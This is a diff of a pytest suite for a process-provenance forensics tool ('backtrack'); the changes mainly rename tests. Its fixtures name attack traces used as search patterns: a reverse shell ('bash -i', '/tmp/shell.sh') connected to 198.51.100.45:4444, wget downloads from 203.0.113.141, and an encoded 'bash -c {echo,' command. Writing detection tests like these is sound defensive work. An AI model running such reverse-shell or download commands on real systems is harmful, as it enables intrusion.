@@ -37,7 +37,7 @@ def start(trace: dict[str, Any]) -> list[dict[str, Any]]:
 
 
 @pytest.mark.parametrize("off_ms", [None, 0, -1999, 1999])
-def test_a_coarse_clock_means_the_nearest_flow_and_its_own_start(seed: Path, off_ms: int | None) -> None:
+def test_a_coarse_time_selects_the_nearest_flow(seed: Path, off_ms: int | None) -> None:
     when = [] if off_ms is None else ["--at", str((SHELL_MS + off_ms) / 1000)]
     trace = traced("backtrack", seed, [*SHELL, *when])
     (node,) = start(trace)
@@ -45,17 +45,17 @@ def test_a_coarse_clock_means_the_nearest_flow_and_its_own_start(seed: Path, off
 
 
 @pytest.mark.parametrize("off_ms", [-2100, -60_000])
-def test_too_far_from_the_time_given_is_nothing(seed: Path, off_ms: int) -> None:
+def test_a_flow_too_far_from_the_time_is_no_match(seed: Path, off_ms: int) -> None:
     code, output = run("backtrack", "--store", seed, *SHELL, "--at", str((SHELL_MS + off_ms) / 1000))
     assert (code, output) == (1, "")
 
 
-def test_a_peer_that_nobody_talked_to_is_nothing(seed: Path) -> None:
+def test_an_unused_peer_is_no_match(seed: Path) -> None:
     with pytest.raises(NothingFound, match="no matching process has a flow"):
         found(seed, command="^bash -i$", remote_ip="198.51.100.45", remote_port=81)
 
 
-def test_the_image_before_made_the_connection_and_the_one_after_holds_it(seed: Path) -> None:
+def test_the_earlier_image_opened_and_the_later_one_holds_the_connection(seed: Path) -> None:
     (before,) = found(seed, SHELL_MS, command=r"^bash /tmp/shell\.sh$", remote_ip="198.51.100.45", remote_port=4444)
     (after,) = found(seed, SHELL_MS, command="^bash -i$", remote_ip="198.51.100.45", remote_port=4444)
     assert before.node.attributes["incarnation"] == after.node.attributes["incarnation"]
@@ -71,10 +71,10 @@ def test_the_nearest_of_several_connections(seed: Path) -> None:
         assert nearest.moment == anchor.moment
 
 
-def test_several_matches_are_listed_unless_all_are_meant(seed: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_several_matches_are_listed_without_all(seed: Path, capsys: pytest.CaptureFixture[str]) -> None:
     code, output = run("backtrack", "--store", seed, "--command", "^wget")
-    said = capsys.readouterr().err
-    assert (code, output) == (2, "") and "2 matches" in said and "3333" in said
+    errors = capsys.readouterr().err
+    assert (code, output) == (2, "") and "2 matches" in errors and "3333" in errors
     trace = traced("backtrack", seed, ["--command", "^wget", "--all"])
     assert sorted(node["command"][:30] for node in start(trace)) == [
         "wget -q http://203.0.113.141/2",
@@ -82,7 +82,7 @@ def test_several_matches_are_listed_unless_all_are_meant(seed: Path, capsys: pyt
     ]
 
 
-def test_copies_that_carry_their_parents_command_line_are_no_matches(seed: Path) -> None:
+def test_forks_with_the_command_line_of_the_parent_are_no_matches(seed: Path) -> None:
     command = r"^bash -c \{echo,"
     (own,) = found(seed, command=command)
     assert not own.node.attributes.get("forked")
@@ -92,8 +92,8 @@ def test_copies_that_carry_their_parents_command_line_are_no_matches(seed: Path)
 
 
 def test_a_process_by_its_id_with_a_peer(seed: Path) -> None:
-    (named,) = found(seed, SHELL_MS, command="^bash -i$", remote_ip="198.51.100.45", remote_port=4444)
-    id = format_id(named.node.kind, named.node.id)
+    (anchor,) = found(seed, SHELL_MS, command="^bash -i$", remote_ip="198.51.100.45", remote_port=4444)
+    id = format_id(anchor.node.kind, anchor.node.id)
     trace = traced("backtrack", seed, ["--id", id, "--remote", "198.51.100.45:4444"])
     (node,) = start(trace)
     assert (node["id"], node["bound"]) == (id, "2026-11-24T03:28:58.271Z")
@@ -127,7 +127,7 @@ def test_all_conditions_hold_together(seed: Path) -> None:
             found(seed, **(right | wrong))
 
 
-def test_the_alert_as_json_says_what_was_asked(seed: Path) -> None:
+def test_the_alert_in_json_holds_the_query(seed: Path) -> None:
     code, output = run("backtrack", "--store", seed, *SHELL, "--format", "json")
     query = json.loads(output)["query"]
     assert code == 0 and query["direction"] == "backward" and query["remote"] == "198.51.100.45:4444"
